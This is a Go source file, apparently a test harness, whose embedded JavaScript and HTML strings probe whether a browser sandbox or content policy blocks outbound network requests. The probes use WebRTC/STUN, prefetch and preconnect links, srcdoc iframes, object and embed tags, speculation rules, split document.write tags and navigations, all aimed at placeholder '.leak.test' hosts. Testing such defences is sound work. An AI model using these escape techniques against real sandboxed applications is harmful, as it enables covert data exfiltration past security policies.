package attack

// peerScript speaks to a server by WebRTC, which no policy for requests holds.
const peerScript = `async (w) => {
  const Peer = w.RTCPeerConnection ?? w.webkitRTCPeerConnection;
  if (!Peer) return "refused";
  const p = new Peer({ iceServers: [{ urls: "stun:@STUN@" }] });
  p.createDataChannel("x");
  try { await p.setLocalDescription(await p.createOffer()) } catch (e) { return "refused" }
  await new Promise((done) => setTimeout(done, 300));
  return p.iceConnectionState === "closed" || p.connectionState === "failed" ? "refused" : "OPEN";
}`

// attackScript runs them one after the other, and says by the title what came of it.
//
// A page that is still there after it tried to leave says so, and goes on, from departure STAY on.
//
// Each has a host of its own that the browser would look up, but for those that ask the network capability, which could reach OUT.
const attackScript = `let OUT = "@OUT@";
const LISTED = "@LISTED@", STUN = "@STUN@", base = new URL("..", location.href).href;
const wait = (what) => new Promise((done) => setTimeout(done, 300, what));
const add = (tag, more) => { const el = document.createElement(tag); Object.assign(el, more); document.body.append(el); return el };
const loads = (tag, attribute, address, more) => new Promise((done) => { const el = document.createElement(tag); el.onload = el.onloadeddata = () => done("LOADED"); el.onerror = () => done("refused"); if (address !== OUT) el[attribute] = address; more(el); document.body.append(el); setTimeout(done, 1500, "refused late") });
const sendForm = (method, action, target) => HTMLFormElement.prototype.requestSubmit.call(add("form", { method, action, target }));
const click = (more, away) => { const a = document.createElement("a"); Object.assign(a, more); if (!away) document.body.append(a); a.click() };
const style = (text) => document.head.append(Object.assign(document.createElement("style"), { textContent: text }));
const report = (what) => { document.title = what; return fetch(LISTED + "/report", { method: "POST", body: what }).catch(() => {}) };
const hint = (rel, as) => { const l = document.createElement("link"); l.rel = rel; if (as) l.as = as; l.href = OUT + "/" + rel; document.head.append(l) };
const nested = (more) => new Promise((done) => { add("iframe", more); const heard = (e) => done(String(e.data)); addEventListener("message", heard); setTimeout(done, 500, "silence") });
const inWorker = (text) => new Promise((done) => { const w = new Worker(URL.createObjectURL(new Blob([text]))); w.onmessage = (e) => done(e.data); w.onerror = () => done("refused") });
const peer = @PEER@;
const native = (name) => { throw new DOMException("no " + name, "SecurityError") };
const Native = window.Native;
const tries = @TRIES@;
addEventListener("unhandledrejection", (e) => e.preventDefault());
const departures = [@DEPARTURES@];
const next = Number(localStorage.getItem("next"));
(async () => {
  if (next > 0 && next <= departures.length) {
    OUT = "http://leaving-" + next + ".leak.test";
    localStorage.setItem("next", next + 1);
    await report("leaving " + next);
    await wait();
    departures[next - 1]();
    if (next < @STAY@) return;
    await new Promise((done) => setTimeout(done, 3000));
    await report("stays " + next + (innerWidth > 0 ? "" : " hidden"));
    return location.reload();
  }
  if (next > departures.length) return report("all left");
  const out = {};
  for (const [name, attempt] of tries) {
    document.title = "at " + name;
    if (!/request|redirect|by the host|payment/.test(name)) OUT = "http://" + name.replace(/[^a-z]+/g, "-") + ".leak.test";
    else OUT = "@OUT@";
    try { out[name] = String(await Promise.race([attempt(), new Promise((done) => setTimeout(done, 60000, "no answer"))])) } catch (e) { out[name] = (e?.name ?? String(e)) + ": " + e?.message }
  }
  localStorage.setItem("next", 1);
  report("done " + JSON.stringify(out));
})();
`

// escapeScript is what the escapes are said by.
const escapeScript = `
const FRAME = (text) => "<iframe srcdoc='" + text + "'></iframe>";
const framed = async (make) => {
  ran.length = 0;
  try { await make('<script src="' + base + 'h5/ran.js"><\/script>') } catch (e) { if (e.name === "SyntaxError") return e.message }
  await wait();
  document.querySelectorAll("iframe, object, embed").forEach((f) => f.remove());
  return ran.length ? ran.splice(0).join(" ") : "silence";
};
const linked = async (name, make) => {
  for (const REL of ["dns-prefetch", "preconnect"]) {
    const TO = REL === "preconnect" ? OUT + "/" : "//" + name + ".leak.test/";
    try { await make(REL, TO, '<link rel="' + REL + '" href="' + TO + '">') } catch (e) { if (e.name === "SyntaxError") return e.message }
  }
  return wait("nothing");
};
`

// ranScript runs where there may be no bridge, and tells the page, and a host by datagrams.
const ranScript = `parent.postMessage("RAN", "*");
if (typeof RTCPeerConnection !== "undefined") (@PEER@)(window);`

// writtenScript writes the page in parts, as it is read, which are names only together, and with what follows them in the page.
const writtenScript = `window.ran = [];
addEventListener("message", (e) => ran.push(String(e.data)));
const text = '<script src="' + new URL("ran.js", location.href).href + '"><\/script>';
document.write("<iframe src"); document.write("doc='" + text + "'></iframe>");
document.write("<iframe ", "s"); document.writeln("rcdoc='", text, "'></iframe>");
document.write("<iframe title='>'"); document.write(" SRCDO"); document.write("C='" + text + "'></iframe>");
document.write("<iframe srcdoc"); document.write("='" + text + "'></iframe>");
document.write("<lin"); document.write("k rel=dns-prefetch href=//written1.leak.test>");
document.write("<"); document.write("link rel=dns-prefetch href=//written2.leak.test>");
document.write("<link rel=dns-"); document.write("prefetch href=//written3.leak.test>");
document.write("<link href=//written4.leak.test rel=preconnect>");
document.write("<obj"); document.write("ect type=text/html data=http://written5.leak.test/></obj"); document.write("ect>");
document.write("<e"); document.write("mbed type=text/html src=http://written6.leak.test/>");
document.write("<object"); document.write(" type=text/html data=http://written7.leak.test/></object>");
document.write("<embed"); document.writeln(); document.write("src=http://written8.leak.test/>");
document.write("<EMBED"); document.write("/src=http://written9.leak.test/>");
document.write("<iframe"); document.write(" srcdoc='" + text + "'></iframe>");
document.write("<embed"); document.write("-card id=card></embed-card>");
document.write("<a title='");`

// escapePage has what a page can have of it in its own HTML; @RAN@ is the address of the script that tells.
const escapePage = `<script src="early.js"></script><!doctype html><title>Attack</title>
<link rel="dns-prefetch" href="//static1.leak.test"><LINK HREF="//static2.leak.test" REL="icon pre&#99;onnect"/><link rel=prefetch href=@OUT@/static>
<iframe srcdoc="&lt;script src='ran.js'>&lt;/script>"></iframe><svg><style><p><iframe srcdoc="<script src='ran.js'></script>"></iframe><link rel=dns-prefetch href=//static3.leak.test></style></svg>
<script type="text/plain" id="rules">{"prefetch": [{"source": "list", "urls": ["@OUT@/ahead"]}], "prerender": [{"source": "list", "urls": ["@OUT@/ahead2"]}]}</script>
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["@OUT@/rules"]}]}</script>
<object type="text/html" data="http://static5.leak.test/"></object><EMBED type="text/html" src="http://static6.leak.test/">
<h1>Attack</h1><body><script src="written.js"></script><textarea title="'><iframe srcdoc='<script src=ran.js></script>'></iframe><link rel=dns-prefetch href=//static4.leak.test>"></textarea>
<script src="attack.js"></script>`

// escapeDrawing is a document that is no page, and would have no bridge.
const escapeDrawing = `<svg xmlns="http://www.w3.org/2000/svg"><script href="ran.js"/><link xmlns="http://www.w3.org/1999/xhtml" rel="dns-prefetch" href="//drawing.leak.test"/></svg>`
